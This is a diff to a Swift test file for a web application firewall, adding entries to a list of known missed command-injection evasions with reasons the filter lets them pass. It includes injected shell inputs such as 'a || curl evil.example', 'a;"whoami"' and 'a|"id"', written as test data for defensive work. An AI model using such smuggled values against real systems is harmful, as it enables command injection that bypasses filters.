@@ -8,6 +8,10 @@ struct WafCorpusTests {
     static let knownMisses: [String: String] = [
         "evasions.json: rce in query: a || curl evil.example":
             "a network command followed by a bare host name reads like prose (\"; ping google.com works\"); flagging it would block ordinary subjects",
+        "evasions.json: rce in query: a;\"whoami\"":
+            "quotes around a whole word after a separator read like a CSV header (\"Name\";\"ID\"), so they are not undone",
+        "evasions.json: rce in query: a|\"id\"":
+            "quotes around a whole word after a separator read like a CSV header (\"Name\";\"ID\"), so they are not undone",
     ]
 
     @Test(arguments: [1, 2])
